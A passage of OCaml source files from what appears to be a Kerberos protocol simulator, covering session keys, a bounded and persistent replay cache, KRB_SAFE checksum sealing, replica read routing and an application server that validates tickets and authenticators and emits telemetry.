    state cost E14 measures. *)
