(** Per-connection cryptographic state shared by the two ends of an
    authenticated exchange.

    The paper's point about "session" keys: in stock Kerberos the key in
    the ticket is really a {e multi-session} key, alive as long as the
    ticket. When [Profile.negotiate_session_key] is set, the key here is
    instead the XOR-negotiated true session key (recommendation (e)),
    limiting both cryptanalytic exposure and cross-session substitution. *)

type role = Client_side | Server_side

type t = {
  profile : Profile.t;
  key : bytes;  (** multi-session or negotiated, per profile *)
  sched : Crypto.Des.key;
      (** [key] scheduled once at [make]; every seal/open under this
          session reuses it instead of re-deriving the subkeys per
          message. *)
  role : role;
  own_addr : Sim.Addr.t;
  peer_addr : Sim.Addr.t;
  mutable send_seq : int;
  mutable recv_seq : int;
  mutable send_iv : bytes;  (** evolving IV, [Cbc_iv_chain] only *)
  mutable recv_iv : bytes;
  cache : Replay_cache.t;  (** per-session cache of priv timestamps *)
  rng : Util.Rng.t;
}

val make :
  profile:Profile.t ->
  rng:Util.Rng.t ->
  role:role ->
  key:bytes ->
  own_addr:Sim.Addr.t ->
  peer_addr:Sim.Addr.t ->
  send_seq:int ->
  recv_seq:int ->
  t

val derived_key :
  Profile.t -> multi:bytes -> client_part:bytes option -> server_part:bytes option -> bytes
(** The session key per profile: the multi-session key as-is, or the
    negotiated XOR when the profile asks for it (both parts must then be
    present). *)
