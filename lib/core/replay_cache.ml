(* Entries live in a hash table keyed by the raw authenticator bytes (an
   earlier version keyed on an MD4 hex digest alone, which would conflate
   two distinct authenticators on a digest collision). Expiry is tracked by
   a min-heap of (expiry, key) pairs — reusing the discrete-event engine's
   heap — drained incrementally at the front of every operation, so a
   sustained insert load costs O(log n) amortized per operation instead of
   the O(n) full-table sweep the purge-on-every-insert scheme paid.

   The heap uses lazy deletion: a key that expires and is later re-inserted
   leaves its stale heap entry behind, so a popped entry only evicts the
   table slot when the slot's recorded expiry has itself passed. A live key
   is never re-inserted (it reports [Replayed]), so there is at most one
   heap entry per table entry plus already-popped stragglers.

   The paper's flooding vector: an attacker who stuffs the cache with
   distinct authenticators grows it without bound — memory exhaustion as
   denial of service. [cap] bounds the live entry count; at capacity the
   entry closest to expiry is evicted deterministically (it had the
   shortest remaining replay window, so its loss re-opens the smallest
   possible door) and counted, so operators can see a flood squeezing the
   cache rather than discovering it from an OOM kill. *)

type entry = { expiry : float; ekey : string }

type t = {
  horizon : float;
  cap : int option;
  on_evict : unit -> unit;
  entries : (string, float) Hashtbl.t; (* key -> expiry *)
  expq : entry Sim.Heap.t;
  mutable hits : int;     (* authenticators refused as replays *)
  mutable inserts : int;  (* fresh authenticators admitted *)
  mutable evicted : int;  (* live entries pushed out by the cap *)
}

let create ?cap ?(on_evict = fun () -> ()) ~horizon () =
  (match cap with
  | Some c when c <= 0 -> invalid_arg "Replay_cache.create: cap must be positive"
  | _ -> ());
  { horizon; cap; on_evict;
    entries = Hashtbl.create 64;
    expq = Sim.Heap.create ~cmp:(fun a b -> Float.compare a.expiry b.expiry);
    hits = 0; inserts = 0; evicted = 0 }

type verdict = Fresh | Replayed

(* Pop every heap entry whose expiry has passed; evict the table slot unless
   a re-insert refreshed it in the meantime. *)
let purge t ~now =
  let rec drain () =
    match Sim.Heap.peek t.expq with
    | Some e when e.expiry < now ->
        ignore (Sim.Heap.pop t.expq);
        (match Hashtbl.find_opt t.entries e.ekey with
        | Some recorded when recorded < now -> Hashtbl.remove t.entries e.ekey
        | _ -> ());
        drain ()
    | _ -> ()
  in
  drain ()

(* At capacity: pop heap entries until one still names a live table slot
   (its recorded expiry matches — lazy-deleted stragglers are skipped and
   discarded, they cost nothing) and evict that slot. Deterministic: the
   heap orders by expiry, and among equal expiries its internal order is
   a pure function of the insert sequence. *)
let evict_soonest t =
  let rec go () =
    match Sim.Heap.pop t.expq with
    | None -> ()
    | Some e -> (
        match Hashtbl.find_opt t.entries e.ekey with
        | Some recorded when recorded = e.expiry ->
            Hashtbl.remove t.entries e.ekey;
            t.evicted <- t.evicted + 1;
            t.on_evict ()
        | _ -> go ())
  in
  go ()

let check_and_insert t ~now blob =
  purge t ~now;
  let key = Bytes.to_string blob in
  match Hashtbl.find_opt t.entries key with
  | Some _ ->
      t.hits <- t.hits + 1;
      Replayed
  | None ->
      (match t.cap with
      | Some c when Hashtbl.length t.entries >= c -> evict_soonest t
      | _ -> ());
      let expiry = now +. t.horizon in
      Hashtbl.replace t.entries key expiry;
      Sim.Heap.push t.expq { expiry; ekey = key };
      t.inserts <- t.inserts + 1;
      Fresh

let size t = Hashtbl.length t.entries
let hits t = t.hits
let inserts t = t.inserts
let evicted t = t.evicted

(* Persistence: the paper's replay cache only earns its name if it
   survives a server restart — a cache that evaporates with the process
   re-admits every authenticator still inside the skew window. Entries are
   dumped sorted by key so the snapshot is deterministic; the heap is
   rebuilt from the table on load, and the lifetime counters start over
   (they describe a process, not a disk file). The cap travels with the
   snapshot (0 encodes "uncapped") so a restarted server keeps its memory
   bound. *)
let to_bytes t =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.i64 w (Int64.bits_of_float t.horizon);
  Wire.Codec.Writer.u32 w (match t.cap with None -> 0 | Some c -> c);
  let entries = Hashtbl.fold (fun k exp acc -> (k, exp) :: acc) t.entries [] in
  let entries = List.sort compare entries in
  Wire.Codec.Writer.u32 w (List.length entries);
  List.iter
    (fun (k, exp) ->
      Wire.Codec.Writer.lstring w k;
      Wire.Codec.Writer.i64 w (Int64.bits_of_float exp))
    entries;
  Wire.Codec.Writer.contents w

(* [?now] prunes at load: a snapshot taken before a long crash window is
   mostly expired entries by the time the server restarts, and loading
   them would both grow the heap with dead weight and — worse — resurrect
   entries whose authenticators the timestamp check already rejects
   (harmless for correctness, unbounded for memory). Entries at or past
   expiry are simply not admitted. *)
let of_bytes ?now ?on_evict b =
  let r = Wire.Codec.Reader.of_bytes b in
  let horizon = Int64.float_of_bits (Wire.Codec.Reader.i64 r) in
  let cap = match Wire.Codec.Reader.u32 r with 0 -> None | c -> Some c in
  let t = create ?cap ?on_evict ~horizon () in
  let n = Wire.Codec.Reader.u32 r in
  for _ = 1 to n do
    let k = Wire.Codec.Reader.lstring r in
    let expiry = Int64.float_of_bits (Wire.Codec.Reader.i64 r) in
    let live = match now with None -> true | Some now -> expiry > now in
    if live then begin
      Hashtbl.replace t.entries k expiry;
      Sim.Heap.push t.expq { expiry; ekey = k }
    end
  done;
  Wire.Codec.Reader.expect_end r;
  t
