type error = Bad_checksum | Stale of float | Replay | Out_of_sequence | Malformed

let error_to_string = function
  | Bad_checksum -> "bad checksum"
  | Stale dt -> Printf.sprintf "stale by %.1fs" dt
  | Replay -> "replay"
  | Out_of_sequence -> "out of sequence"
  | Malformed -> "malformed"

let skew = Krb_priv.skew

(* Covered fields: data, stamp, the sender's address. The sender passes its
   own address; the verifier passes the peer's. *)
let covered ~addr data stamp =
  Wire.Codec.Writer.pooled (fun w ->
      Wire.Codec.Writer.lbytes w data;
      Wire.Codec.Writer.i64 w stamp;
      Wire.Codec.Writer.u32 w addr;
      Wire.Codec.Writer.contents w)

(* Encipher the checksum under the session key (ECB over its padded form),
   as the drafts' "encrypted checksum" types do. The session's scheduled
   key is reused; padding is written straight into the buffer we encrypt
   in place. *)
let seal_cksum (s : Session.t) raw =
  let n = Bytes.length raw in
  let buf = Crypto.Mode.create_padded n in
  Bytes.blit raw 0 buf 0 n;
  Crypto.Mode.ecb_encrypt_into s.sched ~src:buf ~dst:buf;
  buf

let stamp_of (s : Session.t) ~now =
  match s.profile.Profile.priv_replay with
  | Profile.Priv_timestamp -> Int64.bits_of_float now
  | Profile.Priv_sequence ->
      let v = Int64.of_int s.send_seq in
      s.send_seq <- s.send_seq + 1;
      v

let seal (s : Session.t) ~now data =
  let stamp = stamp_of s ~now in
  let cksum =
    Crypto.Checksum.compute s.profile.Profile.checksum ~key:s.key
      (covered ~addr:s.own_addr data stamp)
  in
  Wire.Codec.Writer.pooled (fun w ->
      Wire.Codec.Writer.lbytes w data;
      Wire.Codec.Writer.i64 w stamp;
      Wire.Codec.Writer.lbytes w (seal_cksum s cksum);
      Wire.Codec.Writer.contents w)

let open_ (s : Session.t) ~now msg =
  match
    let r = Wire.Codec.Reader.of_bytes msg in
    let data = Wire.Codec.Reader.lbytes r in
    let stamp = Wire.Codec.Reader.i64 r in
    let sealed = Wire.Codec.Reader.lbytes r in
    Wire.Codec.Reader.expect_end r;
    (data, stamp, sealed)
  with
  | exception Wire.Codec.Decode_error _ -> Error Malformed
  | data, stamp, sealed ->
      let expect =
        Crypto.Checksum.compute s.profile.Profile.checksum ~key:s.key
          (covered ~addr:s.peer_addr data stamp)
      in
      if not (Util.Bytesutil.equal sealed (seal_cksum s expect)) then Error Bad_checksum
      else begin
        match s.profile.Profile.priv_replay with
        | Profile.Priv_timestamp ->
            let ts = Int64.float_of_bits stamp in
            let dt = Float.abs (now -. ts) in
            if dt > skew then Error (Stale dt)
            else if Replay_cache.check_and_insert s.cache ~now msg = Replay_cache.Replayed
            then Error Replay
            else Ok data
        | Profile.Priv_sequence ->
            if Int64.to_int stamp <> s.recv_seq then Error Out_of_sequence
            else begin
              s.recv_seq <- s.recv_seq + 1;
              Ok data
            end
      end
