type role = Client_side | Server_side

type t = {
  profile : Profile.t;
  key : bytes;
  sched : Crypto.Des.key;
  role : role;
  own_addr : Sim.Addr.t;
  peer_addr : Sim.Addr.t;
  mutable send_seq : int;
  mutable recv_seq : int;
  mutable send_iv : bytes;
  mutable recv_iv : bytes;
  cache : Replay_cache.t;
  rng : Util.Rng.t;
}

(* Directional initial IVs both sides can compute: E_k(direction byte,
   zero-padded). "Initial values for it should be exchanged during (or
   derived from) the authentication handshake." *)
let initial_iv ~sched direction =
  let block = Bytes.make 8 '\000' in
  Bytes.set block 0 direction;
  Crypto.Des.encrypt_block sched block

let make ~profile ~rng ~role ~key ~own_addr ~peer_addr ~send_seq ~recv_seq =
  let sched = Crypto.Des.schedule_cached key in
  let c2s = initial_iv ~sched 'C' and s2c = initial_iv ~sched 'S' in
  let send_iv, recv_iv =
    match role with Client_side -> (c2s, s2c) | Server_side -> (s2c, c2s)
  in
  { profile; key; sched; role; own_addr; peer_addr; send_seq; recv_seq;
    send_iv; recv_iv; cache = Replay_cache.create ~horizon:600.0 (); rng }

let derived_key (profile : Profile.t) ~multi ~client_part ~server_part =
  if not profile.negotiate_session_key then multi
  else
    match (client_part, server_part) with
    | Some c, Some s -> Crypto.Prf.negotiate_session_key ~multi ~client_part:c ~server_part:s
    | _ -> invalid_arg "Session.derived_key: negotiation parts missing"
