(* Replica-aware read routing. The serving pool is the primary plus its
   attached read replicas; each unit carries a one-server queue
   (busy-until clock) fed by a fixed per-lookup service time, and a read
   is routed to the eligible unit whose queue frees up soonest. The
   queueing model is what makes overload *visible* in the simulator:
   handlers are otherwise instantaneous, so without it a viral service
   melts nothing and the replicas would have nothing to prove.

   Staleness is bounded by replication lag measured in WAL records
   (head LSN minus the replica's acked LSN). An ordinary read accepts a
   replica within [max_lag]; a *fresh* read — password-change-sensitive
   paths like the AS client-key lookup — only accepts a replica within
   [fresh_floor] (default 0: fully caught up) and otherwise falls back
   to the primary. Writes never come here; they go to the primary and
   reach replicas through the shipped log. *)

type unit_ = {
  u_name : string;
  u_replica : Kdb.replica option;  (* [None] = the primary itself *)
  mutable u_busy_until : float;
  u_reads : Telemetry.Metrics.counter;
}

type t = {
  primary : Kdb.t;
  service_time : float;
  max_lag : int;
  fresh_floor : int;
  metrics : Telemetry.Metrics.t;
  mutable units : unit_ list;  (* primary first, then attach order *)
  c_fresh_fallback : Telemetry.Metrics.counter;
  c_stale_fallback : Telemetry.Metrics.counter;
}

let create ?(service_time = 0.0) ?(max_lag = 64) ?(fresh_floor = 0) ?telemetry
    primary =
  if service_time < 0.0 then
    invalid_arg "Replication.create: negative service_time";
  if max_lag < 0 || fresh_floor < 0 then
    invalid_arg "Replication.create: negative lag bound";
  let tel =
    match telemetry with Some c -> c | None -> Telemetry.Collector.create ()
  in
  let m = Telemetry.Collector.metrics tel in
  { primary;
    service_time;
    max_lag;
    fresh_floor;
    metrics = m;
    units =
      [ { u_name = "primary";
          u_replica = None;
          u_busy_until = 0.0;
          u_reads = Telemetry.Metrics.counter m "routed_reads.primary" } ];
    c_fresh_fallback = Telemetry.Metrics.counter m "kdb.reads.fresh_fallbacks";
    c_stale_fallback = Telemetry.Metrics.counter m "kdb.reads.stale_fallbacks" }

let primary t = t.primary

let add_replica t r =
  let name = Kdb.replica_name r in
  if List.exists (fun u -> u.u_name = name) t.units then
    invalid_arg ("Replication.add_replica: duplicate unit " ^ name);
  t.units <-
    t.units
    @ [ { u_name = name;
          u_replica = Some r;
          u_busy_until = 0.0;
          u_reads = Telemetry.Metrics.counter t.metrics ("routed_reads." ^ name)
        } ]

let replicas t = List.filter_map (fun u -> u.u_replica) t.units

let unit_reads t =
  List.map (fun u -> (u.u_name, Telemetry.Metrics.value u.u_reads)) t.units

let fresh_fallbacks t = Telemetry.Metrics.value t.c_fresh_fallback
let stale_fallbacks t = Telemetry.Metrics.value t.c_stale_fallback

(* A unit may serve the read when it holds the shard at acceptable lag.
   The primary is always eligible — it is never stale. *)
let eligible t ~bound shard u =
  match u.u_replica with
  | None -> true
  | Some r ->
      Kdb.replica_live r
      && Kdb.replica_covers r shard
      && Kdb.replica_lag t.primary r <= bound

let read t ~now ?(fresh = false) principal =
  let shard = Kdb.shard_of t.primary principal in
  let bound = if fresh then t.fresh_floor else t.max_lag in
  let candidates = List.filter (eligible t ~bound shard) t.units in
  (* Least-loaded: earliest free queue wins; strict comparison keeps the
     first (primary-first, attach-order) unit on ties, so routing is a
     pure function of prior state — deterministic at a fixed seed. *)
  let u =
    match candidates with
    | [] -> assert false (* the primary is always eligible *)
    | first :: rest ->
        List.fold_left
          (fun best c -> if c.u_busy_until < best.u_busy_until then c else best)
          first rest
  in
  (* Count reads a lagging replica would have served at a looser bound —
     the cost of the freshness floor (fresh) or of bounded staleness. *)
  (match u.u_replica with
  | None ->
      let excluded_by_lag =
        List.exists
          (fun c ->
            match c.u_replica with
            | None -> false
            | Some r ->
                Kdb.replica_live r
                && Kdb.replica_covers r shard
                && Kdb.replica_lag t.primary r > bound)
          t.units
      in
      if excluded_by_lag then
        Telemetry.Metrics.incr
          (if fresh then t.c_fresh_fallback else t.c_stale_fallback)
  | Some _ -> ());
  Telemetry.Metrics.incr u.u_reads;
  let entry =
    match u.u_replica with
    | None -> Kdb.lookup t.primary principal
    | Some r -> (
        match Kdb.lookup (Kdb.replica_db r) principal with
        | Some _ as e -> e
        | None ->
            (* Replica miss — e.g. a principal the primary materializes
               lazily. The authoritative answer comes from the primary;
               the queue cost stays on the unit that took the read. *)
            Kdb.lookup t.primary principal)
  in
  let start = if now > u.u_busy_until then now else u.u_busy_until in
  let finish = start +. t.service_time in
  u.u_busy_until <- finish;
  (entry, finish -. now)

(* One shipping round to every live replica (the replication daemon's
   tick). Returns the number of records materialized across the pool. *)
let ship_all t =
  List.fold_left
    (fun acc u ->
      match u.u_replica with
      | Some r when Kdb.replica_live r -> acc + Kdb.ship_to_replica r
      | _ -> acc)
    0 t.units

let max_lag_live t =
  List.fold_left
    (fun acc u ->
      match u.u_replica with
      | Some r when Kdb.replica_live r ->
          let l = Kdb.replica_lag t.primary r in
          if l > acc then l else acc
      | _ -> acc)
    0 t.units

let staleness_bound t = t.max_lag

(* Self-tuning ship trigger: instead of shipping on a fixed workload
   cadence, the replication daemon checks lag (cheap — a fold over head
   LSNs) and ships only once some live replica has fallen behind by
   [fraction] of the staleness bound. Checked often enough relative to
   the write rate, this keeps every replica's lag strictly inside
   [max_lag] — bounded-staleness routing then never excludes a live
   replica — while idle periods ship nothing at all. [fraction] 0.0
   degenerates to ship-on-every-check, the old fixed-cadence behaviour. *)
let ship_if_lagged ?(fraction = 0.5) t =
  if fraction < 0.0 || fraction > 1.0 then
    invalid_arg "Replication.ship_if_lagged: fraction outside [0,1]";
  let threshold = fraction *. float_of_int t.max_lag in
  if float_of_int (max_lag_live t) >= threshold then ship_all t else 0
