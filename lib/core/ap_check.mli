(** Ticket and authenticator validation, shared by the datagram application
    server and the connection-oriented services. Every check the paper
    discusses is here, each contingent on the profile:

    - ticket decryption and expiry (against the {e server's} clock — a
      clock the time-service attack can move);
    - the address binding, when the profile writes addresses into tickets;
    - forwarded-flag policy ("A may not be willing to accept tickets
      originally created on host C" — but the flag carries no origin, so
      the policy can only be all-or-nothing);
    - transited-realm policy;
    - timestamp-window and replay-cache checks on the authenticator;
    - the hardened collision-proof checksum tying authenticator to ticket,
      and the service name inside the authenticator. *)

type reject = { code : int; reason : string }

val outcome_of_code : code:int -> text:string -> string
(** Map a protocol error to the span-outcome vocabulary the telemetry layer
    uses everywhere: ["replay-detected"], ["preauth-reject"],
    ["rate-limited"], ["bad-checksum"], ["skew"], … Success is ["ok"] by
    convention (no error, so no code to map). *)

val outcome_of_reject : reject -> string

val validate_ticket :
  profile:Profile.t ->
  service_key:bytes ->
  principal:Principal.t ->
  now:float ->
  src_addr:Sim.Addr.t ->
  accept_forwarded:bool ->
  trusted_transit:string list ->
  refuse_dup_skey:bool ->
  bytes ->
  (Messages.ticket, reject) result

val validate_authenticator :
  profile:Profile.t ->
  ticket:Messages.ticket ->
  ticket_blob:bytes ->
  principal:Principal.t ->
  now:float ->
  skew:float ->
  cache:Replay_cache.t option ->
  bytes ->
  (Messages.authenticator, reject) result
