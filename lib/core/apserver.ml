type config = {
  accept_forwarded : bool;
  trusted_transit : string list;
  skew : float;
  refuse_dup_skey : bool;
  max_peers : int;
  persist_replay_cache : bool;
}

let default_config =
  { accept_forwarded = false; trusted_transit = []; skew = 300.0;
    refuse_dup_skey = false; max_peers = 4096; persist_replay_cache = false }

type pending = {
  pend_ticket : Messages.ticket;
  pend_nonce : int64;
  pend_server_part : bytes option;
  pend_seq_init : int option;  (** server's chosen initial sequence number *)
}

type peer_state =
  | Awaiting_response of pending  (** challenge sent, waiting for the reply *)
  | Established of Session.t * Principal.t

(* Where a frame came from and how to answer it — the same shape whether
   the frame arrived as a datagram or on a stream connection. Datagram
   replies go back through the transport's MTU guard; stream replies ride
   the connection that carried the request. *)
type ctx = {
  cx_src : Sim.Addr.t;
  cx_sport : int;
  cx_own : Sim.Addr.t;  (** the server address the frame arrived at *)
  cx_reply : bytes -> unit;  (** whole framed bytes *)
}

type t = {
  net : Sim.Net.t;
  host : Sim.Host.t;
  profile : Profile.t;
  principal : Principal.t;
  key : bytes;
  port : int;
  config : config;
  rng : Util.Rng.t;
  mutable cache : Replay_cache.t option;
  mutable disk : bytes option;
      (** persisted replay-cache snapshot, written at crash *)
  mutable running : bool;
  mutable endpoint : Sim.Transport.server option;
  peers : (Sim.Addr.t * int, peer_state) Hashtbl.t;
  peer_order : (Sim.Addr.t * int) Queue.t;  (** insertion order, for eviction *)
  handler : Session.t -> client:Principal.t -> bytes -> bytes option;
  mutable established : int;
  mutable rejected : (int * string) list;
  tel : Telemetry.Collector.t;
  c_established : Telemetry.Metrics.counter;
  c_rejected : Telemetry.Metrics.counter;
  c_replay_hits : Telemetry.Metrics.counter;
  mutable pending_outcome : string option;
      (** outcome of the frame being handled, set by the failure paths and
          read back by the per-frame span when the handler returns *)
}

let sessions_established t = t.established
let rejections t = t.rejected
let running t = t.running

let replay_hits t = Telemetry.Metrics.value t.c_replay_hits

let replay_cache_size t =
  match t.cache with None -> 0 | Some c -> Replay_cache.size c

let peer_state_size t = Hashtbl.length t.peers

(* Insert peer state, evicting the oldest entries beyond the bound. An
   evicted pending challenge simply forces the honest client to start
   over; an evicted session forces re-authentication. *)
let put_peer t key state =
  if not (Hashtbl.mem t.peers key) then Queue.push key t.peer_order;
  Hashtbl.replace t.peers key state;
  while Hashtbl.length t.peers > t.config.max_peers do
    match Queue.take_opt t.peer_order with
    | None -> Hashtbl.reset t.peers
    | Some oldest -> Hashtbl.remove t.peers oldest
  done

let reply _t ~cx kind payload = cx.cx_reply (Frames.wrap kind payload)

(* Mark how the current frame ended; replays additionally feed the
   operator view and the per-service replay counter. *)
let flag_outcome t outcome =
  t.pending_outcome <- Some outcome;
  if outcome = "replay-detected" then begin
    Telemetry.Opsview.record_replay
      (Telemetry.Collector.ops t.tel)
      ~component:("ap." ^ Principal.to_string t.principal);
    Telemetry.Metrics.incr t.c_replay_hits
  end

let reject t ~cx (r : Ap_check.reject) =
  t.rejected <- (r.code, r.reason) :: t.rejected;
  Telemetry.Metrics.incr t.c_rejected;
  flag_outcome t (Ap_check.outcome_of_reject r);
  Sim.Net.note t.net
    (Printf.sprintf "%s: rejected AP attempt (%s)" t.host.Sim.Host.name r.reason);
  reply t ~cx Frames.error
    (Messages.encode_msg t.profile ~tag:Messages.tag_err
       (Messages.err_to_value { Messages.e_code = r.code; e_text = r.reason }))

let now t = Sim.Net.local_time t.net t.host

(* The detection-plane hook: every ticket that decrypts and passes
   validation reports its shape — the fields a forged ticket must fake
   and the rules key on. Emitted before the authenticator check, so a
   well-sealed forgery is visible even if its authenticator later
   fails. *)
let emit_ticket_validated t ~cx (ticket : Messages.ticket) =
  if Telemetry.Collector.wants_events t.tel then
    Telemetry.Collector.event t.tel ~component:"apserver" ~kind:"ticket.validated"
      [ ("src", Sim.Addr.to_string cx.cx_src);
        ("client", Principal.to_string ticket.Messages.client);
        ("service", Principal.to_string t.principal);
        ("lifetime", Printf.sprintf "%g" ticket.Messages.lifetime);
        ("issued_at", Printf.sprintf "%g" ticket.Messages.issued_at);
        ( "addr",
          match ticket.Messages.addr with Some _ -> "bound" | None -> "none" ) ]

let fresh_parts t =
  let server_part =
    if t.profile.Profile.negotiate_session_key then Some (Util.Rng.bytes t.rng 8)
    else None
  in
  let seq_init =
    match t.profile.Profile.priv_replay with
    | Profile.Priv_sequence -> Some (Util.Rng.int t.rng 1_000_000)
    | Profile.Priv_timestamp -> None
  in
  (server_part, seq_init)

let establish t ~cx ~(ticket : Messages.ticket) ~client_part ~server_part
    ~client_seq ~server_seq =
  let key =
    Session.derived_key t.profile ~multi:ticket.Messages.session_key
      ~client_part ~server_part
  in
  let session =
    Session.make ~profile:t.profile ~rng:(Util.Rng.split t.rng) ~role:Session.Server_side
      ~key ~own_addr:cx.cx_own ~peer_addr:cx.cx_src
      ~send_seq:(Option.value server_seq ~default:0)
      ~recv_seq:(Option.value client_seq ~default:0)
  in
  put_peer t (cx.cx_src, cx.cx_sport) (Established (session, ticket.Messages.client));
  t.established <- t.established + 1;
  Telemetry.Metrics.incr t.c_established;
  session

(* --- Timestamp-authenticator path ---------------------------------- *)

let handle_ap_timestamp t ~cx ~skew (r : Messages.ap_req) =
  match
    Ap_check.validate_ticket ~profile:t.profile ~service_key:t.key
      ~principal:t.principal ~now:(now t) ~src_addr:cx.cx_src
      ~accept_forwarded:t.config.accept_forwarded
      ~trusted_transit:t.config.trusted_transit
      ~refuse_dup_skey:t.config.refuse_dup_skey r.r_ticket
  with
  | Error rej -> reject t ~cx rej
  | Ok ticket -> (
      emit_ticket_validated t ~cx ticket;
      match
        Ap_check.validate_authenticator ~profile:t.profile ~ticket
          ~ticket_blob:r.r_ticket ~principal:t.principal ~now:(now t) ~skew
          ~cache:t.cache r.r_authenticator
      with
      | Error rej -> reject t ~cx rej
      | Ok auth ->
          let server_part, server_seq = fresh_parts t in
          let (_ : Session.t) =
            establish t ~cx ~ticket ~client_part:auth.a_subkey_part ~server_part
              ~client_seq:auth.a_seq_init ~server_seq
          in
          let body =
            if r.r_mutual || server_part <> None || server_seq <> None then
              Messages.seal_msg t.profile t.rng ~key:ticket.Messages.session_key
                ~tag:Messages.tag_ap_rep_body
                (Messages.ap_rep_body_to_value
                   { Messages.ar_timestamp = auth.a_timestamp +. 1.0;
                     ar_subkey_part = server_part; ar_seq_init = server_seq })
            else Bytes.empty
          in
          reply t ~cx Frames.ap_ok body)

(* --- Challenge/response path --------------------------------------- *)

let handle_ap_challenge t ~cx (r : Messages.ap_req) =
  match
    Ap_check.validate_ticket ~profile:t.profile ~service_key:t.key
      ~principal:t.principal ~now:(now t) ~src_addr:cx.cx_src
      ~accept_forwarded:t.config.accept_forwarded
      ~trusted_transit:t.config.trusted_transit
      ~refuse_dup_skey:t.config.refuse_dup_skey r.r_ticket
  with
  | Error rej -> reject t ~cx rej
  | Ok ticket ->
      emit_ticket_validated t ~cx ticket;
      (* No authenticator, no clock: issue a nonce under the session key.
         The state burden ("all servers must then retain state") is this
         table entry. *)
      let nonce = Util.Rng.next_int64 t.rng in
      let server_part, server_seq = fresh_parts t in
      let pending =
        { pend_ticket = ticket; pend_nonce = nonce; pend_server_part = server_part;
          pend_seq_init = server_seq }
      in
      put_peer t (cx.cx_src, cx.cx_sport) (Awaiting_response pending);
      let body =
        Messages.seal_msg t.profile t.rng ~key:ticket.Messages.session_key
          ~tag:Messages.tag_challenge
          (Messages.challenge_to_value
             { Messages.c_nonce = nonce; c_server_part = server_part;
               c_seq_init = server_seq })
      in
      reply t ~cx Frames.challenge body

let handle_challenge_resp t ~cx pending payload =
  match
    Messages.open_msg t.profile ~key:pending.pend_ticket.Messages.session_key
      ~tag:Messages.tag_challenge_resp payload
  with
  | Error e ->
      reject t ~cx { Ap_check.code = Messages.err_bad_integrity; reason = e }
  | Ok v -> (
      match Messages.challenge_resp_of_value v with
      | exception Wire.Codec.Decode_error e ->
          reject t ~cx { Ap_check.code = Messages.err_bad_integrity; reason = e }
      | resp ->
          if resp.cr_nonce_f <> Int64.add pending.pend_nonce 1L then
            reject t ~cx
              { Ap_check.code = Messages.err_bad_integrity;
                reason = "challenge response incorrect" }
          else begin
            ignore
              (establish t ~cx ~ticket:pending.pend_ticket
                 ~client_part:resp.cr_client_part ~server_part:pending.pend_server_part
                 ~client_seq:resp.cr_seq_init ~server_seq:pending.pend_seq_init);
            reply t ~cx Frames.ap_ok Bytes.empty
          end)

(* --- Established-session traffic ----------------------------------- *)

let priv_outcome = function
  | Krb_priv.Replay -> "replay-detected"
  | Krb_priv.Stale _ -> "skew"
  | Krb_priv.Garbled -> "bad-integrity"
  | Krb_priv.Bad_direction -> "bad-direction"
  | Krb_priv.Bad_address -> "bad-address"
  | Krb_priv.Out_of_sequence _ -> "out-of-sequence"

let safe_outcome = function
  | Krb_safe.Bad_checksum -> "bad-checksum"
  | Krb_safe.Stale _ -> "skew"
  | Krb_safe.Replay -> "replay-detected"
  | Krb_safe.Out_of_sequence -> "out-of-sequence"
  | Krb_safe.Malformed -> "bad-integrity"

let handle_priv t ~cx session client payload =
  match Krb_priv.open_ session ~now:(now t) payload with
  | Error e ->
      flag_outcome t (priv_outcome e);
      Sim.Net.note t.net
        (Printf.sprintf "%s: KRB_PRIV rejected (%s)" t.host.Sim.Host.name
           (Krb_priv.error_to_string e))
  | Ok data -> (
      match t.handler session ~client data with
      | None -> ()
      | Some resp ->
          reply t ~cx Frames.priv (Krb_priv.seal session ~now:(now t) resp))

let handle_safe t ~cx session client payload =
  match Krb_safe.open_ session ~now:(now t) payload with
  | Error e ->
      flag_outcome t (safe_outcome e);
      Sim.Net.note t.net
        (Printf.sprintf "%s: KRB_SAFE rejected (%s)" t.host.Sim.Host.name
           (Krb_safe.error_to_string e))
  | Ok data -> (
      match t.handler session ~client data with
      | None -> ()
      | Some resp ->
          reply t ~cx Frames.safe (Krb_safe.seal session ~now:(now t) resp))

(* --- Frame dispatch and lifecycle ---------------------------------- *)

let handle_frame t ~cx raw =
  match Frames.unwrap raw with
  | None -> ()
  | Some (kind, payload) -> (
      let peer = (cx.cx_src, cx.cx_sport) in
      (* One span per recognized frame, nested under the packet span;
         replies sent inside the handler nest under it in turn. The
         failure paths record the outcome via [flag_outcome]. *)
      let traced name handler =
        let span =
          Telemetry.Collector.span_begin t.tel ~component:"apserver" name
            ~attrs:
              [ ("service", Principal.to_string t.principal);
                ("src", Sim.Addr.to_string cx.cx_src) ]
        in
        t.pending_outcome <- None;
        Telemetry.Collector.with_context t.tel span handler;
        let outcome = Option.value t.pending_outcome ~default:"ok" in
        Telemetry.Collector.span_finish t.tel ~outcome span;
        (* The detection-plane hook: per-frame outcome from this source —
           follow-up activity for the harvest rule, replay/address/checksum
           outcomes for theirs. *)
        if Telemetry.Collector.wants_events t.tel then
          Telemetry.Collector.event t.tel ~component:"apserver" ~kind:"auth.ap_req"
            [ ("src", Sim.Addr.to_string cx.cx_src);
              ("service", Principal.to_string t.principal); ("frame", name);
              ("outcome", outcome) ];
        t.pending_outcome <- None
      in
      match (kind, Hashtbl.find_opt t.peers peer) with
      | k, _ when k = Frames.ap_req ->
          traced "ap.req" (fun () ->
              match
                Messages.ap_req_of_value
                  (Wire.Encoding.decode t.profile.Profile.encoding payload)
              with
              | exception Wire.Codec.Decode_error e ->
                  reject t ~cx { Ap_check.code = Messages.err_generic; reason = e }
              | r -> (
                  match t.profile.Profile.ap_auth with
                  | Profile.Timestamp { skew; _ } ->
                      handle_ap_timestamp t ~cx ~skew:(min skew t.config.skew) r
                  | Profile.Challenge_response -> handle_ap_challenge t ~cx r))
      | k, Some (Awaiting_response pending) when k = Frames.challenge_resp ->
          traced "ap.challenge_resp" (fun () ->
              handle_challenge_resp t ~cx pending payload)
      | k, Some (Established (session, client)) when k = Frames.priv ->
          traced "ap.priv" (fun () -> handle_priv t ~cx session client payload)
      | k, Some (Established (session, client)) when k = Frames.safe ->
          traced "ap.safe" (fun () -> handle_safe t ~cx session client payload)
      | _ ->
          Sim.Net.note t.net
            (Printf.sprintf "%s: unexpected frame %d" t.host.Sim.Host.name kind))

(* Both endpoints — datagrams on [port], framed stream on the paired TCP
   port — feed the same frame dispatcher; the context records where the
   frame came from and how to answer it. An AP reply that cannot fit the
